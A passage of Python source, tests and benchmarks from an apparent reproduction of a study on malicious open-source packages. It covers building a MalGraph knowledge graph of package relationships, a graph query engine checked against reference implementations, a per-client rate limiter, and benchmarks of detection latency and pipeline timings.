            for name, seconds, detail in timings.rows():
                self.report.record_substage(STAGE_MALGRAPH, name, seconds, detail)
        self.store.put_memory(STAGE_MALGRAPH, fp, malgraph)
        self.store.put_disk(
            STAGE_MALGRAPH,
            fp,
            malgraph,
            MalGraphCodec(dataset),
            self._config_payload(STAGE_MALGRAPH),
        )
        self._record(STAGE_MALGRAPH, STATUS_MISS, SOURCE_BUILD, started)
        return malgraph
