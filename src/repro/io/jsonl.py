"""JSON-lines persistence helpers."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Dict, Iterable, Iterator, List, Union

PathLike = Union[str, Path]


def write_jsonl(path: PathLike, records: Iterable[dict]) -> int:
    """Write records as one JSON object per line; returns the count."""
    count = 0
    with open(path, "w", encoding="utf-8") as handle:
        for record in records:
            handle.write(json.dumps(record, sort_keys=True))
            handle.write("\n")
            count += 1
    return count


def read_jsonl(path: PathLike) -> Iterator[dict]:
    """Yield one dict per non-empty line."""
    with open(path, "r", encoding="utf-8") as handle:
        for line in handle:
            line = line.strip()
            if line:
                yield json.loads(line)
