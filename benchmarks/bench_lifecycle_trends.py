"""Life-cycle trends — the mechanism behind Figs. 5, 6, 10 and 11.

Paper narrative, measured: detection latency shrinks over the study
years (registry scanning matured), and persistence windows are short —
the reason mirror recovery fails ("persisted too briefly", Fig. 5) and
download medians sit at 0-1 (Fig. 11).
"""

from __future__ import annotations

import pytest

from repro.analysis.lifecycle import compute_lifecycle_trends


def test_lifecycle_trends(benchmark, artifacts, show):
    trends = benchmark(compute_lifecycle_trends, artifacts.dataset)
    show("Life-cycle trends by year", trends.render())

    medians = trends.median_latency_by_year()
    assert len(medians) >= 4, "multi-year coverage"
    years = sorted(medians)
    early = sum(medians[y] for y in years[:2]) / 2
    late = sum(medians[y] for y in years[-2:]) / 2
    assert late < early, "detection latency shrinks over the years"
    # persistence stays short throughout: removal follows detection
    # within days, so most packages persist under a few weeks
    last = trends.years[-1]
    assert last.persistence is not None
    assert last.persistence.median < 30
