"""Edge builders: the four relationships of Section III-A.

Each builder consumes the collected :class:`MalwareDataset` and emits
edges into a :class:`PropertyGraph` whose nodes are dataset entries
(one per unique malicious package).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence, Tuple

from repro.collection.records import DatasetEntry, MalwareDataset
from repro.core.graph import EdgeType, PropertyGraph
from repro.core.similarity import SimilarityConfig, SimilarityResult, cluster_artifacts
from repro.ecosystem.package import PackageId


def node_id(package: PackageId) -> str:
    """Stable node id for a package."""
    return f"{package.ecosystem}:{package.name}@{package.version}"


def node_attrs(entry: DatasetEntry) -> Dict:
    """The paper's seven node attributes for one entry."""
    return dict(
        name=entry.package.name,
        version=entry.package.version,
        ecosystem=entry.package.ecosystem,
        sources=sorted(entry.sources),
        sha256=entry.sha256(),
        path=entry.artifact_origin,
        release_day=entry.release_day,
    )


def add_dataset_nodes(graph: PropertyGraph, dataset: MalwareDataset) -> None:
    """One node per dataset entry, with the paper's seven attributes:
    id, name, version, source, hash, path and ecosystem."""
    for entry in dataset.entries:
        graph.add_node(node_id(entry.package), **node_attrs(entry))


# ---------------------------------------------------------------------------
# Duplicated
# ---------------------------------------------------------------------------

def _columnar_of(dataset: MalwareDataset):
    """The backing ColumnarDataset when ``dataset`` is the lazy facade,
    else None — the dispatch point for every vectorised fast path."""
    return getattr(dataset, "columnar", None)


def duplicated_groups_of(dataset: MalwareDataset) -> List[List[DatasetEntry]]:
    """Signature groups (>= 2 sharers) in first-occurrence order.

    Pure — no graph involved; shared by the cold builder below and the
    delta engine's list rebuild. Columnar corpora group by pooled
    signature ids without hydrating non-members.
    """
    col = _columnar_of(dataset)
    if col is not None:
        from repro.core.columnar.edges import duplicated_row_groups

        entries = dataset.entries
        return [
            [entries[int(row)] for row in rows]
            for rows in duplicated_row_groups(col)
        ]
    by_hash: Dict[str, List[DatasetEntry]] = {}
    for entry in dataset.available_entries():
        by_hash.setdefault(entry.sha256(), []).append(entry)
    return [members for members in by_hash.values() if len(members) >= 2]


def build_duplicated_edges(
    graph: PropertyGraph, dataset: MalwareDataset
) -> List[List[DatasetEntry]]:
    """Same signature => same package (Section III-A duplicated edge).

    Entries are keyed by (ecosystem, name, version), so name-level
    duplicates across sources are already merged; what remains is the
    'brock-loader' / 'soltalabs-ramda-extra' case — identical code
    published under different coordinates. Each signature group becomes a
    clique.
    """
    groups = duplicated_groups_of(dataset)
    for members in groups:
        graph.add_clique([node_id(e.package) for e in members], EdgeType.DUPLICATED)
    return groups


# ---------------------------------------------------------------------------
# Dependency
# ---------------------------------------------------------------------------

def dependency_pairs_of(
    dataset: MalwareDataset,
) -> List[Tuple[DatasetEntry, DatasetEntry]]:
    """Directed (dependant, dependency) pairs between dataset packages.

    Pure — the cold builder adds the graph edges on top, the delta
    engine rebuilds ``MalGraph.dependency_edges`` from it. Columnar
    corpora resolve the (ecosystem, name) join with two binary searches
    instead of a dict-of-lists over hydrated entries.
    """
    col = _columnar_of(dataset)
    if col is not None:
        from repro.core.columnar.edges import dependency_pair_rows

        entries = dataset.entries
        src, tgt = dependency_pair_rows(col)
        return [
            (entries[int(s)], entries[int(t)]) for s, t in zip(src, tgt)
        ]
    name_index = dataset.name_index()
    pairs: List[Tuple[DatasetEntry, DatasetEntry]] = []
    for entry in dataset.available_entries():
        for dep_name in entry.artifact.metadata.dependencies:
            targets = name_index.get((entry.package.ecosystem, dep_name), ())
            for target in targets:
                if target.package == entry.package:
                    continue
                pairs.append((entry, target))
    return pairs


def build_dependency_edges(
    graph: PropertyGraph, dataset: MalwareDataset
) -> List[Tuple[DatasetEntry, DatasetEntry]]:
    """Malicious package depends on malicious package (Fig. 7).

    Dependencies on packages *not* in the dataset are dependencies on
    legitimate packages and are discarded, per the paper: "We remove
    those dependency libraries from legitimate packages, only considering
    the dependency between malicious packages."
    """
    edges = dependency_pairs_of(dataset)
    for entry, target in edges:
        graph.add_edge(
            node_id(entry.package), node_id(target.package), EdgeType.DEPENDENCY
        )
    return edges


# ---------------------------------------------------------------------------
# Similar
# ---------------------------------------------------------------------------

@dataclass
class SimilarBuildResult:
    """Similarity groups plus the underlying clustering diagnostics."""

    groups: List[List[DatasetEntry]]
    clustering: SimilarityResult
    embedded_entries: List[DatasetEntry]


def build_similar_edges(
    graph: PropertyGraph,
    dataset: MalwareDataset,
    config: Optional[SimilarityConfig] = None,
    store=None,
) -> SimilarBuildResult:
    """Similar code base => similar edge, via the clustering pipeline.

    Only entries with an artifact can be embedded (the paper likewise
    can only hash/embed the packages it actually holds). ``store``
    enables the persistent embedding cache (see
    :func:`repro.core.similarity.cluster_artifacts`).
    """
    config = config if config is not None else SimilarityConfig()
    entries = [e for e in dataset.available_entries() if e.artifact.code_files()]
    clustering = cluster_artifacts(
        [e.artifact for e in entries], config, store=store
    )
    groups: List[List[DatasetEntry]] = []
    for members in clustering.groups:
        group = [entries[i] for i in members]
        graph.add_clique([node_id(e.package) for e in group], EdgeType.SIMILAR)
        groups.append(group)
    return SimilarBuildResult(
        groups=groups, clustering=clustering, embedded_entries=entries
    )


# ---------------------------------------------------------------------------
# Co-existing
# ---------------------------------------------------------------------------

def coexisting_group_of_report(
    dataset: MalwareDataset, report
) -> Optional[List[DatasetEntry]]:
    """One report's resolved unique members, or None when fewer than 2."""
    members = [dataset.get(p) for p in report.packages]
    members = [m for m in members if m is not None]
    unique = {m.package: m for m in members}
    if len(unique) < 2:
        return None
    return list(unique.values())


def coexisting_groups_of(dataset: MalwareDataset) -> List[List[DatasetEntry]]:
    """Qualifying report groups in report order (pure). Columnar corpora
    resolve every report mention in one vectorised join, hydrating only
    the member entries."""
    col = _columnar_of(dataset)
    if col is not None:
        from repro.core.columnar.edges import coexisting_row_groups

        entries = dataset.entries
        return [
            [entries[int(row)] for row in rows]
            for rows in coexisting_row_groups(col)
        ]
    groups: List[List[DatasetEntry]] = []
    for report in dataset.reports:
        group = coexisting_group_of_report(dataset, report)
        if group is not None:
            groups.append(group)
    return groups


def build_coexisting_edges(
    graph: PropertyGraph, dataset: MalwareDataset
) -> List[List[DatasetEntry]]:
    """Same security report => co-existing edge (clique per report)."""
    groups = coexisting_groups_of(dataset)
    for group in groups:
        graph.add_clique(
            [node_id(e.package) for e in group], EdgeType.COEXISTING
        )
    return groups
