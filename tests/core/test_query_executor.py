"""Executor semantics cross-checked against brute-force references.

The references are deliberately naive (dict-of-sets BFS, full
enumeration) and share no code with the executor; graphs are small and
seeded so failures reproduce.
"""

from __future__ import annotations

import random

import pytest

from repro.core.edges import node_id
from repro.core.graph import EdgeType, PropertyGraph
from repro.core.malgraph import MalGraph
from repro.core.query import QueryEngine, QueryError


# ---------------------------------------------------------------------------
# Reference implementations
# ---------------------------------------------------------------------------

def ref_reach(adjacency, start, lo, hi):
    """Nodes whose shortest distance from start lies in [lo, hi]."""
    distance = {start: 0}
    frontier = [start]
    depth = 0
    found = set()
    while frontier and (hi is None or depth < hi):
        depth += 1
        nxt = []
        for node in frontier:
            for other in adjacency.get(node, ()):
                if other not in distance:
                    distance[other] = depth
                    nxt.append(other)
        if depth >= lo:
            found.update(nxt)
        frontier = nxt
    return found


def ref_distances(adjacency, sources, k):
    distance = {s: 0 for s in sources}
    frontier = list(sources)
    depth = 0
    while frontier and depth < k:
        depth += 1
        nxt = []
        for node in frontier:
            for other in adjacency.get(node, ()):
                if other not in distance:
                    distance[other] = depth
                    nxt.append(other)
        frontier = nxt
    return distance


@pytest.fixture(scope="module")
def seeded():
    """A random-but-seeded graph plus plain adjacency dicts per type."""
    rng = random.Random(11)
    graph = PropertyGraph()
    n = 30
    for i in range(n):
        graph.add_node(
            f"n{i:02d}",
            name=f"pkg{i:02d}",
            ecosystem=rng.choice(["npm", "pypi", "rubygems"]),
            release_day=rng.randrange(100),
        )
    adjacency = {t: {} for t in EdgeType}

    def connect(u, v, edge_type):
        graph.add_edge(u, v, edge_type)
        adjacency[edge_type].setdefault(u, set()).add(v)
        adjacency[edge_type].setdefault(v, set()).add(u)

    for _ in range(40):
        i, j = rng.sample(range(n), 2)
        connect(f"n{i:02d}", f"n{j:02d}", EdgeType.SIMILAR)
    for _ in range(15):
        i, j = rng.sample(range(n), 2)
        connect(f"n{i:02d}", f"n{j:02d}", EdgeType.COEXISTING)
    clique = [f"n{i:02d}" for i in rng.sample(range(n), 4)]
    graph.add_clique(clique, EdgeType.COEXISTING)
    for u in clique:
        for v in clique:
            if u != v:
                adjacency[EdgeType.COEXISTING].setdefault(u, set()).add(v)
    return graph, adjacency


@pytest.fixture(scope="module")
def engine(seeded):
    graph, _ = seeded
    return QueryEngine.for_graph(graph)


# ---------------------------------------------------------------------------
# Multi-hop semantics
# ---------------------------------------------------------------------------

@pytest.mark.parametrize("lo, hi", [(1, 1), (1, 2), (2, 3), (1, 3), (2, None)])
def test_variable_hops_match_reference(seeded, engine, lo, hi):
    graph, adjacency = seeded
    hops = f"*{lo}..{hi}" if hi is not None else f"*{lo}.."
    for start in ["n00", "n07", "n13"]:
        rows = engine.rows(
            f"MATCH (a {{name: 'pkg{start[1:]}'}})-[similar{hops}]-(b) RETURN b"
        )
        expected = ref_reach(adjacency[EdgeType.SIMILAR], start, lo, hi)
        assert {r[0] for r in rows} == expected


def test_multi_type_hop_matches_reference(seeded, engine):
    graph, adjacency = seeded
    merged = {}
    for t in (EdgeType.SIMILAR, EdgeType.COEXISTING):
        for node, others in adjacency[t].items():
            merged.setdefault(node, set()).update(others)
    rows = engine.rows(
        "MATCH (a {name: 'pkg05'})-[similar|coexisting*1..2]-(b) RETURN b"
    )
    assert {r[0] for r in rows} == ref_reach(merged, "n05", 1, 2)


def test_untyped_edge_spans_all_types(seeded, engine):
    graph, adjacency = seeded
    merged = {}
    for per_type in adjacency.values():
        for node, others in per_type.items():
            merged.setdefault(node, set()).update(others)
    rows = engine.rows("MATCH (a {name: 'pkg00'})-[]-(b) RETURN b")
    assert {r[0] for r in rows} == merged.get("n00", set())


def test_chain_join_matches_enumeration(seeded, engine):
    graph, adjacency = seeded
    rows = engine.rows(
        "MATCH (a)-[similar]-(b)-[coexisting]-(c) "
        "WHERE a.ecosystem = 'npm' RETURN a, b, c"
    )
    # bindings need not be distinct across non-adjacent variables, so
    # a == c paths are legitimate rows
    expected = {
        (a, b, c)
        for a in graph.nodes()
        if graph.node(a)["ecosystem"] == "npm"
        for b in adjacency[EdgeType.SIMILAR].get(a, ())
        for c in adjacency[EdgeType.COEXISTING].get(b, ())
    }
    assert set(rows) == expected


def test_indexed_and_naive_agree(seeded, engine):
    queries = [
        "MATCH (a {name: 'pkg03'})-[similar*1..3]-(b) RETURN b",
        "MATCH (a)-[similar]-(b) WHERE a.ecosystem = 'pypi' RETURN a, b",
        "MATCH (a)-[coexisting]-(b)-[similar]-(c) RETURN a.name, c.name",
        "MATCH (a) WHERE a.release_day < 50 RETURN a ORDER BY a.name LIMIT 7",
        "MATCH (a)-[similar|coexisting]-(b) RETURN count(*)",
    ]
    for text in queries:
        indexed = engine.run(text)
        naive = engine.run(text, naive=True)
        assert indexed.rows == naive.rows, text
        assert indexed.columns == naive.columns


# ---------------------------------------------------------------------------
# Direction (needs the MalGraph's directed dependency maps)
# ---------------------------------------------------------------------------

@pytest.fixture(scope="module")
def malgraph(small_dataset) -> MalGraph:
    return MalGraph.build(small_dataset)


def test_directed_hop_follows_dependency_direction(malgraph):
    engine = QueryEngine(malgraph)
    pairs = {
        (node_id(entry.package), node_id(target.package))
        for entry, target in malgraph.dependency_edges
    }
    assert pairs
    u, v = sorted(pairs)[0]
    name = engine.indexes().node_attrs(u)["name"]
    out_rows = engine.rows(
        f"MATCH (a {{id: '{u}'}})-[dependency]->(b) RETURN b"
    )
    assert {r[0] for r in out_rows} == {t for s, t in pairs if s == u}
    in_rows = engine.rows(
        f"MATCH (a {{id: '{u}'}})<-[dependency]-(b) RETURN b"
    )
    assert {r[0] for r in in_rows} == {s for s, t in pairs if t == u}
    any_rows = engine.rows(f"MATCH (a {{id: '{u}'}})-[dependency]-(b) RETURN b")
    assert {r[0] for r in any_rows} == {t for s, t in pairs if s == u} | {
        s for s, t in pairs if t == u
    }


def test_reversed_chain_equals_forward_chain(malgraph):
    """(a)-[dep]->(b) enumerates the same pairs as (b)<-[dep]-(a)."""
    engine = QueryEngine(malgraph)
    forward = set(engine.rows("MATCH (a)-[dependency]->(b) RETURN a, b"))
    backward = {
        (a, b)
        for b, a in engine.rows("MATCH (b)<-[dependency]-(a) RETURN b, a")
    }
    pairs = {
        (node_id(e.package), node_id(t.package))
        for e, t in malgraph.dependency_edges
    }
    assert forward == pairs
    assert backward == pairs


# ---------------------------------------------------------------------------
# Procedures
# ---------------------------------------------------------------------------

def test_shortest_path_matches_reference(seeded, engine):
    graph, adjacency = seeded
    adj = adjacency[EdgeType.SIMILAR]
    distances = ref_distances(adj, ["n00"], 10**6)
    reachable = sorted(set(distances) - {"n00"})
    assert reachable, "seeded graph should connect n00 to something"
    for target in reachable[:5]:
        path = engine.shortest_path("n00", target, (EdgeType.SIMILAR,))
        assert path[0] == "n00" and path[-1] == target
        assert len(path) - 1 == distances[target]
        for u, v in zip(path, path[1:]):
            assert v in adj[u]


def test_shortest_path_unreachable_is_empty(seeded, engine):
    graph, adjacency = seeded
    distances = ref_distances(adjacency[EdgeType.SIMILAR], ["n00"], 10**6)
    unreachable = sorted(set(f"n{i:02d}" for i in range(30)) - set(distances))
    if not unreachable:
        pytest.skip("every node reachable in this seed")
    assert engine.shortest_path("n00", unreachable[0], (EdgeType.SIMILAR,)) == []


def test_neighborhood_matches_reference(seeded, engine):
    graph, adjacency = seeded
    for k in (0, 1, 2, 3):
        got = dict(engine.neighborhood("n07", k, (EdgeType.SIMILAR,)))
        assert got == ref_distances(adjacency[EdgeType.SIMILAR], ["n07"], k)


def test_call_surface_matches_python_surface(seeded, engine):
    via_call = engine.run("CALL neighborhood('n07', 2, 'similar')")
    assert list(via_call.columns) == ["node", "distance"]
    assert [tuple(r) for r in via_call.rows] == engine.neighborhood(
        "n07", 2, (EdgeType.SIMILAR,)
    )
    path = engine.shortest_path("n00", "n07", (EdgeType.SIMILAR,))
    via_sp = engine.run("CALL shortest_path('n00', 'n07', 'similar')")
    assert [node for _step, node in via_sp.rows] == path


def test_bad_selector_raises(engine):
    with pytest.raises(QueryError, match="unknown node selector"):
        engine.neighborhood("no-such-node", 2)


def test_bad_edge_type_list_raises(engine):
    with pytest.raises(QueryError, match="unknown edge type"):
        engine.run("CALL neighborhood('n00', 1, 'friendship')")
