"""Per-client token-bucket rate limiting for the HTTP front end.

A million-user feed cannot let one misbehaving scanner starve everyone
else: each client (the ``X-Client-Id`` header when present, else the
peer address) gets an independent token bucket refilled continuously at
``rate`` requests/second up to a ``burst`` ceiling. A request that finds
no token is answered ``429`` with a ``Retry-After`` header carrying the
seconds until the bucket next holds a whole token — backpressure the
stdlib HTTP clients downstream scanners use honour out of the box.

The limiter keeps exact books (``allowed + rejected ==`` checks) and
surfaces them through ``GET /v1/metrics`` as the ``rate_limiter``
section. Buckets for clients not seen recently are pruned once the
table passes ``max_clients``, so an address-spoofing flood cannot grow
the table without bound.

Everything is deterministic given a clock: tests inject a fake
monotonic clock instead of sleeping.
"""

from __future__ import annotations

import threading
import time
from typing import Callable, Dict, Optional

#: Default ceiling on distinct per-client buckets held at once.
MAX_TRACKED_CLIENTS = 10_000


class TokenBucket:
    """One client's budget: continuous refill, whole-token spend."""

    __slots__ = ("rate", "burst", "tokens", "updated")

    def __init__(self, rate: float, burst: float, now: float):
        self.rate = rate
        self.burst = burst
        self.tokens = burst  # a new client starts with a full burst
        self.updated = now

    def try_acquire(self, now: float) -> float:
        """0.0 when a token was spent, else seconds until one exists."""
        elapsed = max(0.0, now - self.updated)
        self.tokens = min(self.burst, self.tokens + elapsed * self.rate)
        self.updated = now
        if self.tokens >= 1.0:
            self.tokens -= 1.0
            return 0.0
        return (1.0 - self.tokens) / self.rate


class RateLimiter:
    """Exact-accounting token buckets keyed by client identity.

    ``check`` returns ``None`` when the request may proceed, else the
    ``Retry-After`` value in seconds (rounded up to a whole second at
    the HTTP layer). One lock guards the bucket table; the critical
    section is a dict probe plus O(1) float math, so it never becomes
    the serialisation point the service-wide lock used to be.
    """

    def __init__(
        self,
        rate: float,
        burst: Optional[int] = None,
        clock: Callable[[], float] = time.monotonic,
        max_clients: int = MAX_TRACKED_CLIENTS,
    ):
        if rate <= 0:
            raise ValueError(f"rate must be > 0 req/s, got {rate}")
        self.rate = float(rate)
        self.burst = float(burst) if burst is not None else max(1.0, self.rate)
        if self.burst < 1.0:
            raise ValueError(f"burst must be >= 1, got {self.burst}")
        self.max_clients = max_clients
        self.allowed = 0
        self.rejected = 0
        self._clock = clock
        self._lock = threading.Lock()
        self._buckets: Dict[str, TokenBucket] = {}

    def check(self, client: str) -> Optional[float]:
        """None = request admitted; else seconds until a token exists."""
        now = self._clock()
        with self._lock:
            bucket = self._buckets.get(client)
            if bucket is None:
                if len(self._buckets) >= self.max_clients:
                    self._prune(now)
                bucket = TokenBucket(self.rate, self.burst, now)
                self._buckets[client] = bucket
            wait = bucket.try_acquire(now)
            if wait == 0.0:
                self.allowed += 1
                return None
            self.rejected += 1
            return wait

    def _prune(self, now: float) -> None:
        """Drop the stalest half of the bucket table (lock held).

        A full bucket holds no state worth keeping — a returning client
        simply starts from a fresh burst, which only ever errs in the
        client's favour.
        """
        stale = sorted(self._buckets.items(), key=lambda kv: kv[1].updated)
        for client, _ in stale[: max(1, len(stale) // 2)]:
            del self._buckets[client]

    def stats(self) -> Dict[str, object]:
        """The ``rate_limiter`` section of ``GET /v1/metrics``."""
        with self._lock:
            return {
                "rate_per_client": self.rate,
                "burst": self.burst,
                "clients": len(self._buckets),
                "allowed": self.allowed,
                "rejected": self.rejected,
            }
