"""MalGraph facade: the assembled knowledge graph, on both hand-built
datasets and the simulated world."""

from __future__ import annotations

import pytest

from repro.core.graph import EdgeType
from repro.core.groups import GroupKind
from repro.core.malgraph import MalGraph
from repro.core.similarity import SimilarityConfig

from tests.core.helpers import dataset, entry, report


@pytest.fixture(scope="module")
def mini_malgraph():
    shared_code = "def payload():\n    return 'steal'\n"
    lib = entry("lib", code="def hide():\n    return 0\n", campaign_id="dep")
    front = entry(
        "front", code="import lib\n", dependencies=("lib",), campaign_id="dep"
    )
    twin_a = entry("twin-a", code=shared_code, campaign_id="flood")
    twin_b = entry("twin-b", code=shared_code, campaign_id="flood")
    ds = dataset(
        [lib, front, twin_a, twin_b],
        [report("r1", [lib.package, front.package])],
    )
    return MalGraph.build(ds, SimilarityConfig(seed=0))


def test_build_adds_every_entry_as_node(mini_malgraph):
    assert mini_malgraph.node_count == 4


def test_build_populates_all_edge_kinds(mini_malgraph):
    assert len(mini_malgraph.duplicated_groups) == 1
    assert len(mini_malgraph.dependency_edges) == 1
    assert len(mini_malgraph.similar.groups) >= 1
    assert len(mini_malgraph.coexisting_groups) == 1


def test_groups_memoised(mini_malgraph):
    first = mini_malgraph.groups(GroupKind.DG)
    assert mini_malgraph.groups(GroupKind.DG) is first


def test_duplicated_group_members(mini_malgraph):
    groups = mini_malgraph.groups(GroupKind.DG)
    assert len(groups) == 1
    assert {e.package.name for e in groups[0].members} == {"twin-a", "twin-b"}


def test_dependency_group_members(mini_malgraph):
    groups = mini_malgraph.groups(GroupKind.DEG)
    assert len(groups) == 1
    assert {e.package.name for e in groups[0].members} == {"lib", "front"}


def test_table2_stats_order_and_symmetry(mini_malgraph):
    stats = mini_malgraph.table2_stats()
    assert [s.edge_type for s in stats] == [
        EdgeType.DUPLICATED,
        EdgeType.DEPENDENCY,
        EdgeType.SIMILAR,
        EdgeType.COEXISTING,
    ]
    for s in stats:
        assert s.avg_out_degree == s.avg_in_degree


# -- against the simulated world -------------------------------------------------

@pytest.fixture(scope="module")
def world_malgraph(request):
    small_dataset = request.getfixturevalue("small_dataset")
    return MalGraph.build(small_dataset)


def test_world_graph_covers_dataset(world_malgraph):
    assert world_malgraph.node_count == len(world_malgraph.dataset)


def test_world_sg_groups_recover_campaigns(world_malgraph):
    """Similarity groups should be nearly pure w.r.t. ground truth."""
    groups = world_malgraph.groups(GroupKind.SG)
    assert groups, "the world contains similarity structure"
    sized = [g for g in groups if g.size >= 3]
    mean_purity = sum(g.purity for g in sized) / len(sized)
    assert mean_purity > 0.9


def test_world_deg_groups_are_small(world_malgraph):
    """Dependency groups are rare and tiny (Table VII: avg size ~2)."""
    groups = world_malgraph.groups(GroupKind.DEG)
    for group in groups:
        assert group.size <= 8


def test_world_dg_members_share_signature(world_malgraph):
    for group in world_malgraph.groups(GroupKind.DG):
        available = [e for e in group.members if e.available]
        signatures = {e.sha256() for e in available}
        # a DG component may chain via transitive duplicates, but with
        # signature-keyed cliques every component is one signature
        assert len(signatures) == 1


def test_world_cg_members_share_reports(world_malgraph):
    report_index = {}
    for rep in world_malgraph.dataset.reports:
        for package in rep.packages:
            report_index.setdefault(package, set()).add(rep.report_id)
    for group in world_malgraph.groups(GroupKind.CG)[:20]:
        # connectivity: each member shares a report with some other member
        for member in group.members:
            mine = report_index.get(member.package, set())
            others = set()
            for other in group.members:
                if other is not member:
                    others |= report_index.get(other.package, set())
            assert mine & others or not mine


def test_world_graph_stats_shape(world_malgraph):
    """Table II shape: SG is the densest subgraph, DeG nearly empty."""
    stats = {s.edge_type: s for s in world_malgraph.table2_stats()}
    assert stats[EdgeType.SIMILAR].directed_edges > (
        stats[EdgeType.DEPENDENCY].directed_edges
    )
    assert stats[EdgeType.DEPENDENCY].avg_out_degree < 3
