"""What-if — defense response time vs attacker yield (RQ4 counterfactual).

Paper insight, inverted: "the impact of OSS malware is limited by a
small download number" *because* registries remove malware quickly. The
sweep rebuilds the same campaign population with defenders 4x faster to
4x slower. Expected shape: attacker downloads grow monotonically with
defender latency, persistence windows stretch with it, and the detected
fraction only drops once latencies start crossing the study horizon.
"""

from __future__ import annotations

import pytest

from repro.analysis.whatif import compute_defense_sweep

SCALES = (0.25, 0.5, 1.0, 2.0, 4.0)


def _assert_shape(sweep) -> None:
    downloads = [s.total_downloads for s in sweep.scenarios]
    assert downloads == sorted(downloads), (
        "attacker yield grows monotonically with defender latency"
    )
    persists = [s.median_persist_days for s in sweep.scenarios]
    assert persists == sorted(persists)
    fast, slow = sweep.scenario(0.25), sweep.scenario(4.0)
    assert slow.total_downloads > 4 * fast.total_downloads, (
        "a 16x defender slowdown multiplies attacker yield several-fold"
    )
    assert fast.detected_fraction >= slow.detected_fraction
    assert all(s.releases == sweep.scenarios[0].releases for s in sweep.scenarios), (
        "the campaign population is identical across scenarios"
    )


@pytest.fixture(scope="module")
def sweep(request):
    show = request.getfixturevalue("show")
    result = compute_defense_sweep(SCALES, seed=7, corpus_scale=0.2)
    show("What-if: defense response time vs attacker yield", result.render())
    _assert_shape(result)
    return result


def test_whatif_defense_sweep(benchmark, sweep):
    fresh = benchmark(
        compute_defense_sweep, (1.0,), 7, 0.2
    )
    assert fresh.scenario(1.0).total_downloads == (
        sweep.scenario(1.0).total_downloads
    )
