"""End-to-end pipeline stage timings (not a paper table).

Times the three expensive stages behind every experiment — world
simulation, the Section II collection pipeline, and the MALGRAPH build —
on a reduced-scale world so the benchmark suite stays fast, plus the
warm-vs-cold comparison: resolving the full analysis path from a warmed
disk cache with a fresh :class:`ArtifactStore` (what a new process sees)
against building it from scratch. The default full-scale stages are
exercised (already warmed) by the per-table benches.
"""

from __future__ import annotations

import time

import pytest

from repro.core.malgraph import MalGraph
from repro.pipeline import ArtifactStore, PipelineReport, PipelineRuntime
from repro.world import WorldConfig, build_world, collect

SMALL = WorldConfig(seed=11, scale=0.25)


def fresh_runtime(cache_dir, disk_enabled: bool) -> PipelineRuntime:
    """A runtime over its own store and report — a cold process in
    miniature, sharing nothing with the session's global store."""
    return PipelineRuntime(
        SMALL,
        store=ArtifactStore(cache_dir=cache_dir, disk_enabled=disk_enabled),
        report=PipelineReport(),
    )


@pytest.fixture(scope="module")
def small_world():
    return build_world(SMALL)


@pytest.fixture(scope="module")
def small_dataset(small_world):
    return collect(small_world).dataset


@pytest.fixture(scope="module")
def warmed_cache_dir(tmp_path_factory):
    cache_dir = tmp_path_factory.mktemp("pipeline-cache")
    fresh_runtime(cache_dir, disk_enabled=True).warm()
    return cache_dir


def test_stage_world_build(benchmark):
    world = benchmark(build_world, SMALL)
    assert world.corpus.campaigns


def test_stage_collection(benchmark, small_world):
    result = benchmark(collect, small_world)
    assert result.dataset.entries


def test_stage_malgraph_build(benchmark, small_dataset):
    graph = benchmark(MalGraph.build, small_dataset)
    assert graph.graph.nodes()


def test_stage_resolve_from_disk(benchmark, warmed_cache_dir):
    """Full analysis path from the warmed disk cache, fresh store each
    round (the cold-process startup path)."""

    def resolve():
        return fresh_runtime(warmed_cache_dir, disk_enabled=True).warm()

    runtime = benchmark(resolve)
    counts = runtime.report.counts()
    assert counts["malgraph"] == {"hits": 1, "misses": 0}, counts


def test_warm_vs_cold_startup_speedup(warmed_cache_dir):
    """A warmed disk cache must beat a from-scratch build by >= 10x."""
    started = time.perf_counter()
    cold = fresh_runtime(None, disk_enabled=False).warm()
    cold_seconds = time.perf_counter() - started

    started = time.perf_counter()
    warm = fresh_runtime(warmed_cache_dir, disk_enabled=True).warm()
    warm_seconds = time.perf_counter() - started

    assert cold.report.counts()["world"]["misses"] == 1
    for stage, stats in warm.report.counts().items():
        assert stats == {"hits": 1, "misses": 0}, (stage, stats)
    assert warm_seconds * 10 <= cold_seconds, (
        f"warm start {warm_seconds:.3f}s vs cold {cold_seconds:.3f}s "
        f"({cold_seconds / max(warm_seconds, 1e-9):.1f}x)"
    )
