"""Shared fixtures for the benchmark harness.

Every bench regenerates one table or figure of the paper from the
canonical deterministic world (seed=7, scale=1.0). The expensive stages
(world simulation, Section II collection, MALGRAPH build) resolve once
through the shared :mod:`repro.pipeline` artifact store — warmed on
first use (or straight from a ``python -m repro warm`` disk cache) — so
each bench times only the analysis it reproduces; the pipeline stages
themselves, including the warm-vs-cold startup comparison, are timed
separately in ``bench_pipeline_stages.py``.

Run with::

    pytest benchmarks/ --benchmark-only
"""

from __future__ import annotations

from typing import Optional

import pytest

from repro.paper import PaperArtifacts, default_artifacts


def peak_rss_kb(include_children: bool = False) -> Optional[int]:
    """Peak RSS of this process (and, optionally, its reaped children)
    in KiB; ``None`` on platforms without ``resource``.

    ``ru_maxrss`` is a high-water mark, so call this *after* the work
    you want to bound. Child-process accounting only covers children
    that have already been ``wait()``ed for.
    """
    from repro.pipeline.report import current_peak_rss_kb

    peak = current_peak_rss_kb()
    if peak is None:  # pragma: no cover - non-POSIX platforms
        return None
    if include_children:
        try:
            import resource
            import sys

            children = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
            if sys.platform == "darwin":  # pragma: no cover - bytes on macOS
                children //= 1024
            peak = max(peak, int(children))
        except ImportError:  # pragma: no cover - non-POSIX platforms
            pass
    return int(peak)


@pytest.fixture
def rss_sampler():
    """Callable fixture reporting peak RSS deltas around a benchmark.

    Usage::

        def test_bench(benchmark, rss_sampler):
            benchmark(work)
            print(f"peak RSS {rss_sampler():.0f} KiB")

    Returns the current process-wide peak (KiB, children included) —
    a high-water mark, so the first bench that touches a large corpus
    dominates later samples in the same process; for isolated numbers
    run the stage in a child process as ``bench_scaling.py`` does.
    """

    def _sample(include_children: bool = True) -> Optional[int]:
        return peak_rss_kb(include_children=include_children)

    return _sample


@pytest.fixture(scope="session")
def artifacts() -> PaperArtifacts:
    """The canonical warmed artifact bundle shared by all benches."""
    return default_artifacts()


@pytest.fixture(scope="session")
def show():
    """Print a rendered table once, under a banner, so ``--benchmark-only``
    output doubles as the paper-style report."""

    seen = set()

